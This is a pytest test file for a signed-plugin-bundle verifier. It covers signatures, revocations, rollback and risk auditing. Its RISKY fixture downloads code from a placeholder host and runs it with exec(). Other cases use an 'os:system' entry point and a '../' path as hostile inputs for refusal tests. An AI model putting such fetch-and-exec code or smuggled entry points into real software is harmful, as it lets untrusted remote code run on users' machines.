"""pilothouse._trust, with bundles that another program has made: bundles.py."""

from __future__ import annotations

import hashlib
import json
import struct
from pathlib import Path
from typing import Any

import pytest

from bundles import (
    AUDIT,
    FILES,
    FOREVER,
    bundle,
    files_of,
    key_id,
    manifest_of,
    private_key,
    public_bytes,
    revocation,
    signed_bytes,
)
from pilothouse._trust import Refused, verify

ONE, TWO, STRANGER = private_key("a"), private_key("b"), private_key("s")
SIGNATURES = 4 + 96  # bytes behind the signed ones, of one signer


def ask(content: Any = None, **changes: Any) -> dict[str, Any]:
    asked: dict[str, Any] = {
        "name": "night-watch",
        "keys": [key_id(ONE), key_id(TWO)],
        "threshold": 1,
        "least_version": None,
        "revoked": [],
        "max_bytes": 1 << 20,
        "max_risk": None,
        "revocations": [],
        "state_directory": None,
        "python": "3.11.2",
        "distributed": "2026.8.0",
        **changes,
    }
    return verify(bundle([ONE]) if content is None else content, **asked)


def code(content: Any = None, **changes: Any) -> str:
    with pytest.raises(Refused) as raised:
        ask(content, **changes)
    assert isinstance(raised.value, ValueError)
    assert raised.value.args == (str(raised.value),) and str(raised.value)
    return raised.value.code


def signed(**changes: Any) -> bytes:
    return bundle([ONE], manifest_of(ONE, **changes))


def sha256(content: bytes) -> str:
    return hashlib.sha256(content[:-SIGNATURES]).hexdigest()


def test_what_is_sure() -> None:
    content = bundle([ONE, STRANGER])
    told = ask(content)
    assert told == {
        "name": "night-watch",
        "version": "1.2.0",
        "kind": "scheduler",
        "entry": "watch:Watch",
        "sha256": sha256(bundle([ONE])),
        "keys": [key_id(ONE)],
        "signers": [key_id(key) for key in sorted((ONE, STRANGER), key=public_bytes)],
        "publisher": key_id(ONE),
        "expires_us": FOREVER,
        "files": FILES,
    }


@pytest.mark.parametrize(
    ("expected", "content", "changes"),
    [
        ("malformed", b"", {}),
        ("malformed", bundle([ONE]) + b"\0", {}),
        ("malformed", signed(extra=1), {}),
        ("malformed", signed(size=1), {}),
        ("malformed", bundle([ONE], b"[]"), {}),
        ("malformed", signed(audit=None), {}),
        ("malformed", signed(audit={}), {}),
        ("malformed", signed(audit={**AUDIT, "risk": 101}), {}),
        ("malformed", signed(audit={**AUDIT, "risk": 0.25}), {}),
        ("malformed", signed(audit={**AUDIT, "rules": "none"}), {}),
        ("malformed", signed(audit={**AUDIT, "sha256": 64 * "A"}), {}),
        ("malformed", signed(audit={**AUDIT, "by": "ada"}), {}),
        ("too_large", None, {"max_bytes": 100}),
        ("too_large", None, {"max_bytes": 0}),
        ("no_signature", bundle([ONE], signatures=[]), {}),
        ("no_signature", bundle([ONE], manifest_of(TWO)), {}),
        ("bad_signature", bundle([ONE])[:-1] + b"\0", {}),
        ("bad_signature", bundle([ONE], signatures=[(public_bytes(ONE), TWO.sign(signed_bytes(manifest_of(ONE), FILES)))]), {}),
        ("duplicate_key", bundle([ONE, ONE]), {}),
        ("unknown_key", bundle([STRANGER]), {}),
        ("unknown_key", None, {"keys": []}),
        ("revoked_key", None, {"revoked": [key_id(ONE)]}),
        ("revoked_key", None, {"revocations": [revocation(ONE)]}),
        ("below_threshold", None, {"threshold": 2}),
        ("below_threshold", None, {"keys": 2 * [key_id(ONE)], "threshold": 2}),
        ("withdrawn", None, {"revocations": [revocation(ONE, sha256=sha256(bundle([ONE])))]}),
        ("wrong_name", None, {"name": "day-watch"}),
        ("look_alike", None, {"name": "night-vvatch"}),
        ("bad_path", bundle([ONE], manifest_of(ONE, files=files_of({"../watch.py": b""})), {}), {}),
        ("bad_hash", bundle([ONE], files={**FILES, "watch.py": b"class Watch: PASS\n"}), {}),
        ("bad_entry", signed(entry="os:system"), {}),
        ("expired", signed(expires_us=1_700_000_000_000_001), {}),
        ("incompatible", None, {"python": "3.8.20"}),
        ("incompatible", None, {"distributed": "2021.1"}),
        ("below_least_version", None, {"least_version": "1.2.1"}),
    ],
)  # fmt: skip
def test_refusal(expected: str, content: bytes | None, changes: dict[str, Any]) -> None:
    assert code(content, **changes) == expected


RISKY = b"""import urllib3


class Watch:
    def start(self, scheduler):
        answer = urllib3.PoolManager().request("GET", "https://plugins.example/watch.py")
        exec(answer.data)
"""


def with_source(content: bytes, **changes: Any) -> bytes:
    files = {"watch.py": content}
    return bundle([ONE], manifest_of(ONE, files=files_of(files), **changes), files)


def test_without_a_highest_risk_nothing_is_audited() -> None:
    assert ask(with_source(RISKY))
    assert ask(signed(audit=AUDIT))


def test_what_is_too_risky() -> None:
    assert code(with_source(RISKY), max_risk=0.5) == "too_risky"
    assert code(with_source(RISKY), max_risk=0) == "too_risky"
    assert ask(with_source(RISKY), max_risk=1)
    assert ask(max_risk=0.5)


def test_what_its_signers_say_of_the_risk_is_not_believed() -> None:
    assert code(with_source(RISKY, audit={**AUDIT, "risk": 0}), max_risk=0.5) == "too_risky"
    assert ask(signed(audit={**AUDIT, "risk": 100}), max_risk=0.5)


def test_the_risk_of_what_cannot_be_read_is_not_known() -> None:
    assert code(with_source(b"class Watch(\n"), max_risk=0.5) == "too_risky"
    assert ask(with_source(b"class Watch(\n"), max_risk=1.0)


def test_what_is_too_risky_is_not_remembered(tmp_path: Path) -> None:
    state = str(tmp_path)
    assert code(with_source(RISKY, version="2.0"), max_risk=0.5, state_directory=state) == "too_risky"
    assert ask(signed(version="1.0"), max_risk=0.5, state_directory=state)


def test_a_member_named_twice_is_refused() -> None:
    text = json.dumps(manifest_of(ONE)).encode()
    assert ask(bundle([ONE], text))
    assert code(bundle([ONE], b'{"name":"night-watch",' + text[1:])) == "malformed"


def test_no_bit_can_be_changed() -> None:
    content = bundle([ONE, STRANGER])
    for bit in range(8 * len(content)):
        changed = bytearray(content)
        changed[bit // 8] ^= 1 << bit % 8
        with pytest.raises(Refused):
            ask(bytes(changed))


def test_statements_of_others_change_nothing() -> None:
    content = bundle([ONE])
    statements = [revocation(STRANGER), revocation(STRANGER, sha256=sha256(content)), b"", b"PHREVOKE"]
    broken = revocation(ONE)
    assert ask(content, revocations=[*statements, broken[:-1] + bytes([broken[-1] ^ 1])])


def test_a_host_never_goes_back(tmp_path: Path) -> None:
    state = str(tmp_path / "state")
    assert ask(signed(version="1.3"), state_directory=state, remember=False)
    assert not Path(state).exists()
    assert ask(signed(version="1.3"), state_directory=state)
    assert (tmp_path / "state" / "trust.json").stat().st_mode & 0o777 == 0o600
    assert code(signed(version="1.2.9"), state_directory=state) == "rollback"
    assert code(signed(version="1.3.0"), state_directory=state) == "rollback"
    assert code(signed(version="1.2.9"), state_directory=state, remember=False) == "rollback"
    assert ask(signed(version="1.2.9"))


def test_a_host_remembers_revocations(tmp_path: Path) -> None:
    state = str(tmp_path)
    assert code(b"", state_directory=state, revocations=[revocation(ONE)]) == "malformed"
    assert code(state_directory=state) == "revoked_key"


def test_a_broken_memory_refuses(tmp_path: Path) -> None:
    (tmp_path / "trust.json").write_text("{")
    assert code(state_directory=str(tmp_path)) == "rollback"


@pytest.mark.parametrize(
    "changes",
    [
        {"name": None},
        {"name": b"night-watch"},
        {"keys": None},
        {"keys": 5},
        {"keys": [b"x"]},
        {"keys": [None]},
        {"threshold": "1"},
        {"threshold": 1.0},
        {"threshold": None},
        {"least_version": 1},
        {"revoked": [1]},
        {"revoked": None},
        {"max_bytes": None},
        {"max_bytes": 1.5},
        {"max_risk": "0.5"},
        {"max_risk": [0.5]},
        {"revocations": None},
        {"revocations": ["x"]},
        {"revocations": [bytearray(b"x")]},
        {"state_directory": 1},
        {"python": 3.11},
        {"distributed": (2026, 8)},
        {"unknown": 1},
    ],
)
def test_wrong_types(changes: dict[str, Any]) -> None:
    with pytest.raises(TypeError):
        ask(**changes)


@pytest.mark.parametrize("content", ["text", 5, bytearray(b"x"), [1]])
def test_a_bundle_is_bytes(content: object) -> None:
    with pytest.raises(TypeError):
        ask(content)


@pytest.mark.parametrize(
    "changes",
    [
        {"name": "a\0b"},
        {"name": "\ud800"},
        {"keys": ["ed25519:"]},
        {"keys": ["ed25519:" + 43 * "A"]},
        {"keys": ["\ud800"]},
        {"keys": key_id(ONE)},
        {"revoked": [key_id(ONE) + "="]},
        {"threshold": 0},
        {"threshold": -1},
        {"least_version": "1.2rc1"},
        {"least_version": ""},
        {"max_bytes": -1},
        {"max_risk": -0.1},
        {"max_risk": 1.1},
        {"max_risk": float("nan")},
        {"state_directory": "a\0b"},
    ],
)
def test_wrong_values(changes: dict[str, Any]) -> None:
    with pytest.raises(ValueError) as raised:
        ask(**changes)
    assert not isinstance(raised.value, Refused)


def test_numbers_beyond_all_bounds() -> None:
    for name in ("threshold", "max_bytes"):
        with pytest.raises(OverflowError):
            ask(**{name: 1 << 64})


def test_every_argument_is_named_and_all_but_the_last_must_be() -> None:
    with pytest.raises(TypeError):
        verify(bundle([ONE]), "night-watch")  # type: ignore
    with pytest.raises(TypeError):
        verify(bundle([ONE]), name="night-watch")  # type: ignore


def test_a_length_that_overflows() -> None:
    content = bundle([ONE])
    assert code(content[:16] + struct.pack("<Q", (1 << 64) - 24) + content[24:]) == "malformed"
